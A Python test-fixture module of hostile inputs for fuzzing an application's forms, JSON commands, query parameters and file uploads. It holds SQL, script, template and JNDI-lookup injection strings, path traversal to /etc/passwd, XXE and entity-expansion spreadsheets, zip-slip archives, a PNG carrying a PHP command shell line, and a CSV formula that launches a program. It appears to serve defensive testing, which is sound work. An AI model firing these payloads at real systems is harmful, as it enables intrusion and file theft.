"""What nobody means well by sending: into every field of every form, and into every field of every command."""

import io
import zipfile
from typing import Any

LONG = "long " * 14_000
TYPED: dict[str, str] = {
    "very long": LONG,
    "one long word": "a" * 40_000,
    "nul": "before\x00after",
    "sql": "Robert'); drop table person; -- \" ; select pg_sleep(9)",
    "script": "</textarea></title><script>alert(1)</script><img src=x onerror=alert(1)>",
    "attribute": "\" autofocus onfocus=alert(1) x='",
    "template": "{{ 7919*7907 }} {% raw %} %(name)s %s {0.__class__} ${jndi:ldap://evil.example/x}",
    "path": "../../../../../../etc/passwd",
    "formula": '=HYPERLINK("https://evil.example";"x")',
    "lines of a header": "x\r\nSet-Cookie: session=evil\r\nLocation: https://evil.example\r\n\r\n",
    "address": "//evil.example/\\evil.example",
    "signs": "‮live\u2066\u200b\ufeff\ufffe\uffff\U0001f4a9\U000e0041 Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘!͖̬̰̙̗̿̋ͥͥ̂ͣ̐́́͜͞",
    "number": "99999999999999999999999999",
    "small number": "-1",
    "no number": "1e309",
    "digits of others": "٣٤٥",
    "day": "9999-99-99",
    "last day": "9999-12-31",
    "hour": "25:61",
    "id": "not-an-id",
    "nobody’s id": "00000000-0000-0000-0000-000000000000",
    "json": '{"$ne": null, "__proto__": {"is_admin": true}}',
    "spaces": "   \t  ",
    "nothing": "",
}
NEEDLE = "hostile"

DEEP: Any = []
for _ in range(200):
    DEEP = [DEEP]
VALUES: dict[str, Any] = {
    "nothing": None,
    "a list": [],
    "an object": {"x": {"$gt": ""}},
    "true": True,
    "a number": 2**63,
    "less than nothing": -(2**31) - 1,
    "a fraction": 1.5e308,
    "text": "x",
    "nul": "a\x00b",
    "half a sign": "\ud800",
    "long": LONG,
    "deep": DEEP,
    "last day": "9999-12-31",
    "first day": "0001-01-01",
    "last moment": "9999-12-31T23:59:59.999999Z",
    "nobody’s id": "00000000-0000-0000-0000-000000000000",
}
"""For one field of a command at a time."""

BODIES: dict[str, bytes] = {
    "nothing": b"",
    "no json": b"{",
    "no utf-8": b'{"words": "\xff\xfe"}',
    "half a sign": b'{"words": "\\ud800"}',
    "a list": b"[]",
    "a word": b'"words"',
    "nan": b'{"number": NaN}',
    "very deep": b"[" * 100_000,
    "very deep in a field": b'{"words": ' + b'{"a":' * 100_000,
    "twice": b'{"words": "a", "words": "b"}',
    "a field that is not known": b'{"is_admin": true, "roles": ["administrator"]}',
    "very large": b'{"words": "' + b"a" * 1_000_000 + b'"}',
}
ASKED = ("x" * 5000, "a\x00b", "not-an-id", "-1", str(2**63), "9999-99-99", "[]", "\ud800", "%00", "' or 1=1 --")
"""For one part of a question at a time."""


def packed(**files: str) -> bytes:
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED) as package:
        for name, text in files.items():
            package.writestr(name.replace("__", "/"), text)
    return written.getvalue()


_ENTITIES = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd"><!ENTITY b "{}">]>'
_WORKSHEET = (
    _ENTITIES.format("lol" * 1000)
    + '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1" '
    't="inlineStr"><is><t>&a;&b;</t></is></c></row></sheetData></worksheet>'
)
HALLS = b"Venue,Town\nOld Hall,Morfa\n"
FILES: dict[str, tuple[str, bytes]] = {
    "a name that climbs": ("../../../../tmp/evil.csv", HALLS),
    "a name of Windows": ("C:\\Windows\\evil.csv", HALLS),
    "a very long name": ("a" * 5000 + ".csv", HALLS),
    "a name that is a script": ("<script>alert(1)</script>.csv", HALLS),
    "a picture with something behind it": (
        "photo.png",
        b"\x89PNG\r\n\x1a\n" + b"\x00" * 64 + b"<?php system($_GET[0]);",
    ),
    "a picture by name only": ("photo.jpg.csv", b"\xff\xd8\xff\xe0<script>alert(1)</script>"),
    "a picture that is a script": ("drawing.svg", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
    "a program": ("halls.xlsx", b"MZ\x90\x00" + b"\x00" * 500),
    "entities": ("halls.xlsx", packed(**{"xl__worksheets__sheet1.xml": _WORKSHEET, "xl__workbook.xml": _ENTITIES})),
    "a package whose files climb": ("halls.ods", packed(**{"..__..__evil": "x", "content.xml": "x"})),
    "nul in a table": ("halls.csv", b"Venue,Town\nOld\x00Hall,Mor\x00fa\n"),
    "formulas": ("halls.csv", b"Venue,Town,Notes\n=cmd|' /C calc'!A0,@SUM(1),+1-1\n"),
    "one long line": ("halls.csv", b"Venue," + b"a," * 200_000),
    "10 MB": ("halls.csv", b"Venue,Town\n" + b"x" * 10_000_000),
    "nothing": ("halls.csv", b""),
}
